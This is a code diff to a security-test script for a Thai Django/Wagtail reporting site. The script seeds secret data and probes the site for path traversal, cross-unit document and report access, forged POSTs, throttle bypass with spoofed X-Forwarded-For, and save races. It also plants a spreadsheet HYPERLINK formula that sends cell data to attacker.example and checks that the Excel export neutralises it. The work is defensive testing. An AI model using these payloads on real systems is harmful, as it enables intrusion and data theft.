@@ -30,7 +30,8 @@ from pathlib import Path
 
 ROOT = Path(__file__).resolve().parent.parent
 SECRET = "ความลับกองคลังสำหรับการทดสอบเจาะระบบ"
-PROBE_USERS = ["staff_finance", "head_finance", "staff_service", "preparer", "admin"]
+PROBE_USERS = ["staff_finance", "head_finance", "staff_service", "head_service", "preparer", "reviewer", "admin"]
+HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"คลิกเพื่อดูหลักฐาน")'
 
 
 # --- Django steps ---------------------------------------------------------------------------
@@ -82,10 +83,50 @@ def prepare(args):
     booklet = generate(agreement, "agreement_booklet", user=admin).document
     evidence_folder = EvidenceFolderPage.for_organisation_year(folder)
     kpi = KPITemplatePage.objects.child_of(folder).get(code="3")
-    evidence = EvidencePage(title=SECRET, slug="probe-secret", kpi=kpi, round=6, live=False)
+    evidence = EvidencePage(title=SECRET, slug=f"probe-secret-{secrets.token_hex(3)}", kpi=kpi, round=6, live=False)
     evidence_folder.add_child(instance=evidence)
     [record] = attach_files(evidence, [Upload("probe.txt", io.BytesIO(SECRET.encode()))], enqueue=False)
     evidence.save_revision()
+
+    # item 7: a signed scan chosen only in a draft of the live agreement
+    from django.core.files.base import ContentFile
+    from wagtail.documents.models import Document
+
+    scan = Document(title="ฉบับลงนามใหม่ (ร่าง) กค.")
+    scan.file.save("signed-draft.pdf", ContentFile(f"%PDF-1.4 {SECRET}".encode()), save=True)
+    assert agreement.live
+    agreement.signed_scan = scan
+    agreement.save_revision(user=admin)
+
+    # items 2, 5, 6, 8: กค.'s report in an open round (two revisions), สบป.'s report in the same
+    # round, a hostile KPI title pinned on กค.'s report, a กค. KPI page to save twice at once
+    import datetime as dt
+
+    from reporting.models import UnitReport, today
+    from reporting.scores import score_report
+
+    service = Organisation.find("สสบ./สบป.")
+    report = UnitReport.objects.filter(organisation=finance).order_by("round__month").first()
+    round_ = report.round
+    round_.opens_on, round_.closes_on = today() - dt.timedelta(days=10), today() + dt.timedelta(days=5)
+    round_.save()
+    staff_finance = users.get(username="staff_finance")
+    report_first = report.save_revision(user=staff_finance, clean=False)
+    report_latest = report.save_revision(user=staff_finance, clean=False)
+    own_report = UnitReport.objects.filter(organisation=service, round=round_).first()
+    if own_report is None:
+        own_report = UnitReport.objects.create(organisation=service, round=round_)
+    # a closed round's card shows the KPI revision pinned on the line: pin the hostile one
+    closed = UnitReport.objects.filter(organisation=finance, round__closes_on__lt=today()).exclude(
+        pk=report.pk).order_by("-round__month").first()
+    hostile = closed.lines_in_order()[0].kpi
+    hostile.title = HOSTILE_TITLE
+    revision = hostile.save_revision(user=admin)
+    revision.publish()
+    closed.lines.filter(kpi=hostile).update(kpi_revision=revision)
+    score_report(closed)
+    finance_kpis = list(KPITemplatePage.objects.child_of(folder).values_list("pk", flat=True))
+    raced = KPITemplatePage.objects.child_of(folder).exclude(pk=hostile.pk).order_by("path").first()
 
     def doc(document, denied):
         return {"id": document.pk, "title": document.title, "file": document.file.name, "url": document.url,
@@ -101,6 +142,14 @@ def prepare(args):
                   "root": Page.get_first_root_node().pk},
         "finance": finance.pk,
         "kpi_code_title": kpi.title,
+        "draft_scan": doc(scan, ["anonymous", "staff_service", "head_service"]),
+        "report": {"id": report.pk, "first": report_first.pk, "latest": report_latest.pk,
+                   "revisions": report.revisions.count()},
+        "own_report": {"id": own_report.pk, "kpis": sorted(own_report.lines.values_list("kpi_id", flat=True))},
+        "finance_kpis": finance_kpis,
+        "raced_kpi": raced.pk,
+        "hostile_report": closed.pk,
+        "evidence_page": evidence.pk,
     }
     path = targets_path(args)
     path.write_text(json.dumps(targets, ensure_ascii=False, indent=1))
@@ -124,6 +173,36 @@ def verify(args):
             problems.append("memo locked by someone")
         if memo.subject != SECRET:
             problems.append("memo subject changed")
+    from reporting.models import KpiReportLine, UnitReport
+
+    report = UnitReport.objects.filter(pk=targets["report"]["id"]).first()
+    if report is None:
+        problems.append("unit report deleted")
+    else:
+        if report.revisions.count() != targets["report"]["revisions"]:
+            problems.append(f"report revisions {targets['report']['revisions']} → {report.revisions.count()}")
+        if report.locked:
+            problems.append("report locked by someone")
+    own = UnitReport.objects.get(pk=targets["own_report"]["id"])
+    foreign = KpiReportLine.objects.filter(report=own, kpi_id__in=targets["finance_kpis"]).count()
+    if foreign:
+        problems.append(f"{foreign} line(s) with a กค. KPI in สบป.'s report")
+    kpis = list(own.lines.values_list("kpi_id", flat=True))
+    if len(kpis) != len(set(kpis)):
+        problems.append("a KPI twice in สบป.'s report")
+    # item 8: every round of two simultaneous saves left exactly one new revision (nothing lost, no double win)
+    from cms.models import KPITemplatePage
+
+    raced = KPITemplatePage.objects.get(pk=targets["raced_kpi"])
+    rounds = {}
+    for revision in raced.revisions.all():
+        found = re.fullmatch(r"สูตรจากแท็บ (\d) รอบ (\d+)", str(revision.content.get("formula", "")))
+        if found:
+            rounds.setdefault(int(found.group(2)), []).append(int(found.group(1)))
+    if sorted(rounds) != list(range(10)) or any(len(v) != 1 for v in rounds.values()):
+        problems.append(f"simultaneous saves: revisions per round {rounds}")
+    latest = raced.get_latest_revision().content.get("formula", "")
+    print(f"simultaneous saves: {len(rounds)} rounds, one saved revision each; latest formula {latest!r}")
     created = Memo.objects.filter(organisation_id=targets["finance"], subject__startswith="สร้างโดยผู้อื่น").count()
     if created:
         problems.append(f"{created} memo(s) created for กค. by others")
@@ -198,17 +277,58 @@ def text_of(response) -> str:
 LOGIN_PATHS = ["/admin/login/", "/django-admin/login/", "/_util/login/"]
 
 
+class Tally:
+    """Per numbered item of the issue: probes sent, refused (a 3xx/4xx refusal, a 409, an error
+    message in the form), filtered (answered, nothing secret in it) and leaks."""
+
+    def __init__(self):
+        self.rows = {}
+
+    def add(self, item, what, outcome, detail=""):
+        row = self.rows.setdefault(item, {"sent": 0, "refused": 0, "filtered": 0, "leaks": 0, "what": [], "detail": []})
+        row["sent"] += 1
+        row[outcome] += 1
+        if what not in row["what"]:
+            row["what"].append(what)
+        if outcome == "leaks":
+            row["detail"].append(detail or what)
+
+    def read(self, item, what, response, leaked, detail=""):
+        if leaked:
+            self.add(item, what, "leaks", detail)
+        elif response.status in (301, 302, 400, 401, 403, 404, 405, 409):
+            self.add(item, what, "refused")
+        else:
+            self.add(item, what, "filtered")
+
+    def print(self):
+        print(f"{'item':4} {'sent':>5} {'refused':>8} {'filtered':>8} {'leaks':>5}  probes")
+        for item in sorted(self.rows):
+            row = self.rows[item]
+            print(f"{item:<4} {row['sent']:5} {row['refused']:8} {row['filtered']:8} {row['leaks']:5}  {'; '.join(row['what'])}")
+            for line in row["detail"][:5]:
+                print(f"         leak: {line}")
+        total = {k: sum(r[k] for r in self.rows.values()) for k in ("sent", "refused", "filtered", "leaks")}
+        print(f"{'all':4} {total['sent']:5} {total['refused']:8} {total['filtered']:8} {total['leaks']:5}")
+        return total["leaks"]
+
+
+def form_of(html, form_id=None):
+    sys.path[:0] = [str(ROOT)]
+    from tests.reporting.formdata import form_fields
+
+    return form_fields(html, form_id)
+
+
 def attack(args):
     targets = json.loads(targets_path(args).read_text())
     secret, passwords = targets["secret"], targets["passwords"]
     base = args.base
-    results = []
+    tally = Tally()
+    controls = []  # rightful users must still get through: a refusal here is a broken site, not safety
 
-    def record(group, tried, leaked, detail=()):
-        results.append((group, tried, leaked))
-        print(f"{group:58} tried {tried:3}, leaked {leaked:3} (target 0)")
-        for line in list(detail)[:5]:
-            print(f"    leak: {line}")
+    def control(what, ok):
+        controls.append((what, ok))
 
     def session(role, source="127.0.0.2"):
         client = Client(base, source)
@@ -216,47 +336,44 @@ def attack(args):
             assert client.login(role, passwords[role]), f"{role} could not log in"
         return client
 
-    roles = {role: session(role) for role in ("anonymous", "staff_service", "preparer")}
+    roles = {role: session(role) for role in ("anonymous", "staff_service", "head_service", "preparer")}
+    owner = session("staff_finance", "127.0.0.3")
+    anonymous = roles["anonymous"]
+    documents = targets["documents"] + [targets["draft_scan"]]
 
     # 1. media paths of every private document: straight, old guessable names, traversal
-    anonymous = roles["anonymous"]
-    paths = []
-    for document in targets["documents"]:
+    for document in documents:
         name = document["file"]
         base_name = name.rsplit("/", 1)[-1]
-        paths += [f"/media/{name}", f"/media/documents/{base_name}", f"/media/{base_name}", f"/_private/{name}",
-                  f"/media/../private/{name}", f"/media/%2e%2e/private/{name}", f"/static/../private/{name}"]
-    leaks = [p for p in paths if anonymous.get(p).status == 200]
-    record("anonymous GET of /media/, /_private/ and traversal paths", len(paths), len(leaks), leaks)
-
-    # 2. document and evidence URLs for each role that must not read them
-    tried, leaks = 0, []
+        for path in [f"/media/{name}", f"/media/documents/{base_name}", f"/media/{base_name}", f"/_private/{name}",
+                     f"/media/../private/{name}", f"/media/%2e%2e/private/{name}", f"/static/../private/{name}",
+                     f"/media/original_images/../../private/{name}"]:
+            response = anonymous.get(path)
+            tally.read(1, "anonymous GET /media/, /_private/, traversal", response, response.status == 200, path)
+    # document downloads by roles that must not read them; the owner's download is handed to nginx
     for document in targets["documents"]:
         for role in document["denied"]:
-            tried += 1
             response = roles[role].get(document["url"])
-            if response.status == 200 or response.getheader("X-Accel-Redirect"):
-                leaks.append(f"{role} {document['url']} {response.status}")
-    for role in ("anonymous", "staff_service"):
-        tried += 1
+            tally.read(1, "document URL by refused roles", response,
+                       response.status == 200 or bool(response.getheader("X-Accel-Redirect")), f"{role} {document['url']}")
+        response = owner.get(document["url"])
+        control(f"staff_finance downloads {document['title']} through nginx",
+                response.status == 200 and response.body[:2] == b"PK" and not response.getheader("X-Accel-Redirect"))
+    for role in ("anonymous", "staff_service", "head_service"):
         response = roles[role].get(targets["evidence_file"])
-        if response.status == 200:
-            leaks.append(f"{role} {targets['evidence_file']}")
-    record("document and evidence downloads by refused roles", tried, len(leaks), leaks)
-
-    # 3. the admin documents API
-    tried, leaks = 0, []
-    for role in ("staff_service", "preparer"):
-        denied = [d for d in targets["documents"] if role in d["denied"]]
+        tally.read(1, "evidence file by other units", response, response.status == 200, role)
+    control("staff_finance downloads the draft evidence file", secret in owner.get(targets["evidence_file"]).body.decode(errors="replace"))
+    # the admin documents API
+    for role in ("staff_service", "head_service", "preparer"):
+        denied = [d for d in documents if role in d["denied"]]
         for path in ["/admin/api/main/documents/", "/admin/api/main/documents/?limit=500",
                      *[f"/admin/api/main/documents/{d['id']}/" for d in denied]]:
-            tried += 1
-            body = text_of(roles[role].get(path))
-            if any(f'"id": {d["id"]},' in body or d["title"] in body for d in denied):
-                leaks.append(f"{role} {path}")
-    record("documents API (listing, detail) by refused roles", tried, len(leaks), leaks)
+            response = roles[role].get(path)
+            body = text_of(response)
+            tally.read(1, "documents API listing/detail", response,
+                       any(f'"id": {d["id"]},' in body or d["title"] in body for d in denied), f"{role} {path}")
 
-    # 4. memo snippet views and forged POSTs by another unit's staff (and reads by the preparer)
+    # 2. memo and unit-report snippet views, forged POSTs (checked by verify)
     memo = targets["memo"]
     ns = "/admin/snippets/doc_templates/memo"
     reads = [f"{ns}/edit/{memo['id']}/", f"{ns}/history/{memo['id']}/", f"{ns}/usage/{memo['id']}/",
@@ -266,30 +383,113 @@ def attack(args):
              f"/admin/snippets/choose/doc_templates/memo/?q=ความลับ",
              f"/admin/snippets/choose/doc_templates/memo/chosen/{memo['id']}/",
              f"/admin/documents-generate/doc_templates/memo/{memo['id']}/list/"]
-    tried, leaks = 0, []
-    for role in ("anonymous", "staff_service"):
+    for role in ("anonymous", "staff_service", "head_service"):
         for path in reads:
-            tried += 1
-            if secret in text_of(roles[role].get(path)):
-                leaks.append(f"{role} {path}")
+            response = roles[role].get(path)
+            tally.read(2, "memo views by other units", response, secret in text_of(response), f"{role} {path}")
     for path in reads[:8] + reads[-1:]:  # preparers read memos only through the chooser
-        tried += 1
-        if secret in text_of(roles["preparer"].get(path)):
-            leaks.append(f"preparer {path}")
+        response = roles["preparer"].get(path)
+        tally.read(2, "memo views by the preparer", response, secret in text_of(response), f"preparer {path}")
+    control("staff_finance opens the memo", secret in text_of(owner.get(reads[0])))
+    report = targets["report"]
+    rns = "/admin/snippets/reporting/unitreport"
+    report_reads = [f"{rns}/edit/{report['id']}/", f"{rns}/history/{report['id']}/", f"{rns}/usage/{report['id']}/",
+                    f"{rns}/workflow_history/{report['id']}/", f"{rns}/delete/{report['id']}/",
+                    f"{rns}/history/{report['id']}/revisions/compare/{report['first']}...{report['latest']}/",
+                    f"{rns}/history/{report['id']}/revisions/{report['first']}/revert/"]
+    for role in ("anonymous", "staff_service", "head_service"):
+        for path in report_reads:
+            response = roles[role].get(path)
+            tally.read(2, "unit-report views by other units", response, response.status == 200, f"{role} {path}")
+    control("staff_finance opens its report", owner.get(report_reads[0]).status == 200)
     attacker = roles["staff_service"]
     own_form = f"{ns}/add/"
+    report_form = form_of(owner.get(report_reads[0]).body.decode())
     forged = [(f"{ns}/edit/{memo['id']}/", {"subject": "แก้โดยผู้อื่น", "organisation": targets["finance"]}),
               (f"{ns}/lock/{memo['id']}/", {}), (f"{ns}/delete/{memo['id']}/", {}),
               (f"{ns}/history/{memo['id']}/revisions/{memo['first']}/revert/", {}),
               (f"{ns}/add/", {"subject": "สร้างโดยผู้อื่น", "organisation": targets["finance"], "kind": "memo"}),
               ("/admin/documents-generate/standard-memo/", {"standard": "send_draft_kpis",
-                                                            "organisation": targets["finance"]})]
-    for path, data in forged:
-        tried += 1
-        attacker.post(path, data, form_path=own_form)  # a valid CSRF token of the attacker's own session
-    record("memo views (reads by 3 roles) + 6 forged POSTs (see verify)", tried, len(leaks), leaks)
+                                                            "organisation": targets["finance"]}),
+              (f"{rns}/edit/{report['id']}/", report_form), (f"{rns}/lock/{report['id']}/", {}),
+              (f"{rns}/unlock/{report['id']}/", {}), (f"{rns}/delete/{report['id']}/", {}),
+              (f"{rns}/history/{report['id']}/revisions/{report['first']}/revert/", report_form)]
+    for role in ("staff_service", "head_service", "preparer"):
+        for path, data in forged:
+            response = roles[role].post(path, data, form_path=own_form)  # the role's own valid CSRF token
+            tally.read(2, "forged POSTs on กค.'s memo/report (DB checked by verify)", response, False)
 
-    # 5. draft page titles in Wagtail's page views
+    # 5. report lines: สบป. puts กค.'s KPIs in its own report, a KPI twice; the card still answers
+    own = targets["own_report"]
+    own_edit = f"{rns}/edit/{own['id']}/"
+    page = attacker.get(own_edit)
+    if page.status == 200:
+        data = form_of(page.body.decode())
+        kpi_fields = [k for k in data if k.startswith("lines-") and k.endswith("-kpi") and data[k]]
+        trials = []
+        for kpi in targets["finance_kpis"][:3]:
+            trials.append(("a กค. KPI in an existing line", {**data, kpi_fields[0]: str(kpi)}))
+        n = int(data["lines-TOTAL_FORMS"])
+        trials.append(("a กค. KPI in a new line", {**data, "lines-TOTAL_FORMS": str(n + 1), f"lines-{n}-kpi": str(targets["finance_kpis"][0]),
+                                                     f"lines-{n}-id": "", f"lines-{n}-ORDER": str(n + 1), f"lines-{n}-DELETE": ""}))
+        if len(kpi_fields) > 1:
+            trials.append(("one KPI twice", {**data, kpi_fields[1]: data[kpi_fields[0]]}))
+        for what, post in trials:
+            response = attacker.post(own_edit, post)
+            tally.add(5, what, "leaks" if response.status in (302, 500) else "refused", f"{what}: {response.status}")
+        card = attacker.get(f"/admin/scores/report/{own['id']}/")
+        tally.read(5, "สบป.'s card after the attempts", card, card.status >= 500, f"card {card.status}")
+    else:
+        tally.add(5, f"สบป. could not open its report ({page.status})", "leaks")
+    # 6. the hostile KPI title in the report-card Excel a reviewer downloads
+    import io
+
+    from openpyxl import load_workbook
+
+    reviewer = session("reviewer", "127.0.0.3")
+    hostile_report = targets["hostile_report"]
+    for path in (f"/admin/scores/report/{hostile_report}/excel/", f"/admin/scores/report/{hostile_report}/esar.xlsx"):
+        response = reviewer.get(path)
+        if response.status != 200:
+            tally.add(6, f"Excel {path} not served ({response.status})", "leaks")
+            continue
+        cells = [c for ws in load_workbook(io.BytesIO(response.body)).worksheets for row in ws.iter_rows() for c in row
+                 if c.value is not None]
+        formulas = [c.coordinate for c in cells if c.data_type == "f"]
+        titled = [c for c in cells if c.value == HOSTILE_TITLE]
+        tally.add(6, "formula cells in the card Excel / e-SAR xlsx", "leaks" if formulas or not titled else "filtered",
+                  f"{path}: formulas {formulas}, title cells {len(titled)}")
+    # 7. the draft scan of the live agreement
+    scan = targets["draft_scan"]
+    for role in scan["denied"]:
+        response = roles[role].get(scan["url"])
+        tally.read(7, "draft scan URL by other units/anonymous", response,
+                   response.status == 200 or bool(response.getheader("X-Accel-Redirect")), f"{role} {scan['url']}")
+    control("staff_finance downloads the draft scan through nginx", secret in owner.get(scan["url"]).body.decode(errors="replace"))
+
+    # 8. two saves of one KPI page posted at the same instant by two sessions of staff_finance
+    import threading
+
+    editors = [owner, session("staff_finance", "127.0.0.4")]
+    edit = f"/admin/pages/{targets['raced_kpi']}/edit/"
+    for attempt in range(10):
+        forms = [form_of(e.get(edit).body.decode(), "page-edit-form") for e in editors]
+        barrier, statuses = threading.Barrier(2), [None, None]
+
+        def save(n):
+            post = {**forms[n], "formula": f"สูตรจากแท็บ {n} รอบ {attempt}"}
+            barrier.wait()
+            statuses[n] = editors[n].request("POST", edit, post).status
+
+        threads = [threading.Thread(target=save, args=(n,)) for n in range(2)]
+        [t.start() for t in threads]
+        [t.join() for t in threads]
+        tally.add(8, "two simultaneous saves (10 rounds)", "refused" if sorted(statuses) == [302, 409] else "leaks",
+                  f"round {attempt}: {statuses}")
+
+    # 11. lesser: memo list search answers, draft titles in Wagtail's page views, GET logout
+    response = owner.get(f"{ns}/?q=ความลับ")
+    tally.add(11, "memo list search (no 500)", "leaks" if response.status >= 500 else "filtered", f"{response.status}")
     pages = targets["pages"]
     page_paths = ["/admin/choose-page/search/?q=ความลับ", f"/admin/choose-page/{pages['folder']}/",
                   f"/admin/choose-page/{pages['draft']}/", f"/admin/choose-page/chosen-multiple/?id={pages['draft']}",
@@ -300,47 +500,44 @@ def attack(args):
                   "/admin/reports/page-types-usage/", f"/admin/pages/{pages['folder']}/", "/admin/pages/search/?q=ความลับ",
                   "/admin/api/main/pages/?search=ความลับ", f"/admin/evidence/page/{pages['draft']}/files/",
                   "/admin/evidence/search/?q=ความลับ", "/api/evidence/search/?q=ความลับ"]
-    tried, leaks = 0, []
-    for role in ("anonymous", "staff_service"):
+    for role in ("anonymous", "staff_service", "head_service"):
         for path in page_paths:
-            tried += 1
-            if secret in text_of(roles[role].get(path)):
-                leaks.append(f"{role} {path}")
-    record("draft titles in page chooser/workflow/bulk/report/search", tried, len(leaks), leaks)
-
-    # 6. GET /admin/logout/ (an <img> on any page) must not log out
+            response = roles[role].get(path)
+            tally.read(11, "draft titles in chooser/workflow/bulk/report/search", response, secret in text_of(response),
+                       f"{role} {path}")
     victim = session("staff_service", "127.0.0.3")
     victim.get("/admin/logout/")
-    logged_out = victim.get("/admin/").status != 200
-    record("GET /admin/logout/ logging the user out", 1, int(logged_out))
+    tally.add(11, "GET /admin/logout/", "leaks" if victim.get("/admin/").status != 200 else "refused")
 
-    # 7. login throttle on every path, attacker at 127.0.0.2 forging X-Forwarded-For each time;
+    # 3. login throttle on every path, attacker at 127.0.0.2 forging X-Forwarded-For each time;
     # the target is "admin" (a staff superuser: the one account every login path accepts)
-    tried, leaks = 0, []
     for attempt in range(8):
         for number, path in enumerate(LOGIN_PATHS, 1):
             Client(base, "127.0.0.2", forwarded_for=f"10.9.{attempt}.{number}").login("admin", f"wrong-{attempt}", path)
     for path in LOGIN_PATHS:
         for forged_hop in (None, "10.99.0.1", "127.0.0.3"):
-            tried += 1
-            if Client(base, "127.0.0.2", forwarded_for=forged_hop).login("admin", passwords["admin"], path):
-                leaks.append(f"attacker logged in after 24 failures via {path} (X-Forwarded-For {forged_hop})")
-    record("login throttle: right password after 24 failures (3 paths)", tried, len(leaks), leaks)
+            ok = Client(base, "127.0.0.2", forwarded_for=forged_hop).login("admin", passwords["admin"], path)
+            tally.add(3, "right password after 24 failures (3 paths, forged X-Forwarded-For)", "leaks" if ok else "refused",
+                      f"{path} X-Forwarded-For {forged_hop}")
 
-    # 8. lockout of others: the victim of the attack and another account, from 127.0.0.3,
+    # 4. lockout of others: the victim of the attack and another account, from 127.0.0.3,
     # on every path that account may use (Django's own admin takes staff accounts only)
-    tried, leaks = 0, []
     for username, paths in (("admin", LOGIN_PATHS), ("staff_finance", ["/admin/login/", "/_util/login/"])):
         for path in paths:
-            tried += 1
-            if not Client(base, "127.0.0.3").login(username, passwords[username], path):
-                leaks.append(f"{username} at 127.0.0.3 locked out on {path}")
-    record("lockout turned against others (victim refused = leak)", tried, len(leaks), leaks)
+            ok = Client(base, "127.0.0.3").login(username, passwords[username], path)
+            tally.add(4, "victim logs in from another address after the attack", "filtered" if ok else "leaks",
+                      f"{username} at 127.0.0.3 locked out on {path}")
+    # 20 failures over many accounts from one address lock that address, not the accounts
+    for n in range(22):
+        Client(base, "127.0.0.5").login(PROBE_USERS[n % len(PROBE_USERS)], "wrong", "/admin/login/")
+    ok = Client(base, "127.0.0.6").login("head_finance", passwords["head_finance"], "/admin/login/")
+    tally.add(4, "an address's 22 failures over all accounts do not lock them for others", "filtered" if ok else "leaks",
+              "head_finance locked out at 127.0.0.6")
 
-    total_tried = sum(t for _g, t, _l in results)
-    total_leaked = sum(n for _g, _t, n in results)
-    print(f"{'TOTAL':58} tried {total_tried:3}, leaked {total_leaked:3} (target 0)")
-    return 1 if total_leaked else 0
+    leaks = tally.print()
+    for what, ok in controls:
+        print(f"control: {what}: {'ok' if ok else 'FAILED'}")
+    return 1 if leaks or not all(ok for _w, ok in controls) else 0
 
 
 def main():
